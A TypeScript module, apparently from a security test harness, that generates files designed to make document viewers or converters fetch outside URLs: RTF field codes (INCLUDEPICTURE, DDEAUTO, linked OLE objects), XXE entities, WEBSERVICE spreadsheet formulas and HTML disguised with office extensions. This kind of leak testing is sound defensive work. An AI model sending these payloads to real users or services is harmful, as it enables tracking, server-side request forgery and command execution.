import { type LeakFile, PIXEL, type Target } from './archive.ts';
import { DOCUMENTS, flat } from './odf.ts';

const escaped = (text: string) => text.replaceAll('\\', '\\\\');
const field = (code: string) => `{\\field\\flddirty{\\*\\fldinst {${code}}}{\\fldrslt old}}`;
const shape = (properties: Readonly<Record<string, string>>) =>
  `{\\shp{\\*\\shpinst\\shpleft0\\shptop0\\shpright2000\\shpbottom2000${Object.entries(properties)
    .map(([name, value]) => `{\\sp{\\sn ${name}}{\\sv ${value}}}`)
    .join('')}}}`;

const RTF: Readonly<Record<string, (target: Target) => string>> = {
  'picture field': ({ url }) => field(`INCLUDEPICTURE "${url}" \\\\d`),
  'picture field of a share': ({ path }) => field(`INCLUDEPICTURE "${escaped(escaped(path))}" \\\\d`),
  'text field': ({ url }) => field(`INCLUDETEXT "${url}"`),
  'dde field': ({ path }) => field(`DDEAUTO soffice "${escaped(path)}" x`),
  'link field': ({ url }) => field(`LINK Word.Document.8 "${url}" x \\\\a`),
  'hyperlink field': ({ url }) => field(`HYPERLINK "${url}"`),
  template: ({ url }) => `{\\*\\template ${url}}`,
  'next file': ({ url }) => `{\\*\\nextfile ${url}}`,
  'linked picture': ({ url }) => shape({ shapeType: '75', pibName: url, pibFlags: '14' }),
  'linked fill': ({ url }) =>
    shape({ shapeType: '1', fillType: '3', fillBlipName: url, fillBlipFlags: '14' }),
  'linked object': ({ url }) =>
    `{\\object\\objautlink\\objupdate\\objw999\\objh999{\\*\\objclass Word.Document.8}{\\*\\objname ${url}}{\\*\\objdata ${ole1(url)}}{\\result x}}`,
  'html object': ({ url }) =>
    `{\\object\\objhtml\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata ${ole1(url)}}{\\result x}}`,
  'sub document': ({ url }) => `{\\subdocument0 ${url}}`,
  'mail merge': ({ url }) => `{\\*\\mailmerge{\\mmdatasource ${url}}{\\mmlinktoquery}}`,
};

/** An OLE 1.0 linked object, as hexadecimal digits (MS-OLEDS 2.2.6). */
function ole1(url: string): string {
  const text = (value: string) => {
    const bytes = Buffer.from(`${value}\0`);
    const length = Buffer.alloc(4);
    length.writeUInt32LE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const head = Buffer.from('0105000001000000', 'hex');
  return Buffer.concat([head, text('Word.Document.8'), text(url), text('x'), Buffer.alloc(16)]).toString(
    'hex',
  );
}

const html = ({ url }: Target) =>
  `<html><head><link rel=stylesheet href="${url}"><style>@import url("${url}");body{background:url("${url}")}</style></head><body background="${url}"><img src="${url}"><iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><p>text</body></html>`;

const svg = ({ url }: Target) =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><image width="99" height="99" xlink:href="${url}"/><text>text</text></svg>`;

const mhtml = (target: Target) =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: ${target.url}\r\n\r\n${html(target)}\r\n--x--\r\n`;

const wordMl = ({ url }: Target) =>
  `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata src="${url}"/></v:shape></w:pict></w:r></w:p></w:body></w:wordDocument>`;

const entity = ({ url }: Target) =>
  `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}" [<!ENTITY e SYSTEM "${url}">]>${flat({ kind: 'text', body: '<text:p>&e;</text:p>' }).replace(/^<\?xml.*?\?>/, '')}`;

const odf = (name: string) => (target: Target) => flat(DOCUMENTS[name]!(target));

/** The content of the file, and the extensions with which it is served. */
const DISGUISES: ReadonlyArray<readonly [string, readonly string[], (target: Target) => string | Buffer]> = [
  ['html', ['doc', 'xls', 'docx', 'rtf', 'ppt'], html],
  ['html behind spaces', ['doc', 'xls'], (target) => `\ufeff  \r\n\r\n${html(target)}`],
  ['svg', ['doc', 'odt'], svg],
  ['mhtml', ['doc', 'xls'], mhtml],
  ['wordml', ['doc'], wordMl],
  ['flat text', ['doc', 'odt', 'docx'], odf('picture')],
  ['flat sheet', ['xls', 'ods'], odf('web service')],
  ['flat show', ['ppt'], odf('picture on a slide')],
  ['flat text with an entity', ['odt', 'doc'], entity],
  ['table with a formula', ['xls', 'csv'], ({ url }) => `a;b\n=WEBSERVICE("${url}");='${url}'#$S.A1\n`],
  ['sylk', ['xls', 'csv'], ({ url }) => `ID;PWXL;N;E\r\nC;Y1;X1;K0;EWEBSERVICE("${url}")\r\nE\r\n`],
  ['shortcut', ['doc'], ({ url }) => `[InternetShortcut]\r\nURL=${url}\r\n`],
  ['web query', ['xls'], ({ url }) => `WEB\r\n1\r\n${url}\r\n`],
  ['m3u', ['ppt'], ({ url }) => `#EXTM3U\n${url}\n`],
  ['a picture first', ['doc'], (target) => Buffer.concat([PIXEL, Buffer.from(html(target))])],
];

/** RTF documents with external references, and files with an office extension that are not office documents. */
export const TEXT_LEAKS: readonly LeakFile[] = [
  ...Object.entries(RTF).map(([name, code]) => ({
    name: `rtf: ${name}`,
    extension: 'rtf',
    bytes: async (target: Target) => Buffer.from(`{\\rtf1\\ansi text ${code(target)}\\par}`),
  })),
  ...DISGUISES.flatMap(([name, extensions, content]) =>
    extensions.map((extension) => ({
      name: `${name} called ${extension}`,
      extension,
      bytes: async (target: Target) => Buffer.from(content(target)),
    })),
  ),
];
